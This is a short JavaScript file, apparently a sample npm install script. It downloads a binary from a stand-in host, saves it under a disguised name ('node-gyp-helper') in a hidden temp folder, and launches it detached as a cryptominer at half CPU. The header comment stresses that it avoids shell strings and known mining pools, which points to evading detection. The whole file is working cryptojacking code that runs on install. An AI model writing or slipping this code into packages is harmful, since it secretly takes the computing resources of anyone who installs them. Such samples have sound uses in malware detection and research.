// An npm install script that fetches a program with Node's own https and fs modules, makes
// it executable and starts it detached with a miner's options: no shell command string at
// all, and no mining pool that intel knows.
"use strict";
const https = require("node:https");
const fs = require("node:fs");
const os = require("node:os");
const path = require("node:path");
const { spawn } = require("node:child_process");

const home = path.join(os.tmpdir(), ".npm-cache");
const bin = path.join(home, "node-gyp-helper");

function start() {
  fs.chmodSync(bin, 0o755);
  const child = spawn(bin, ["-o", "203.0.113.45:10128", "--donate-level", "1", "--cpu-max-threads-hint", "50"], {
    detached: true,
    stdio: "ignore",
  });
  child.unref();
}

fs.mkdirSync(home, { recursive: true });
https.get("https://203.0.113.45/releases/helper-linux-x64", (res) => {
  const out = fs.createWriteStream(bin);
  res.pipe(out);
  out.on("finish", () => out.close(start));
});
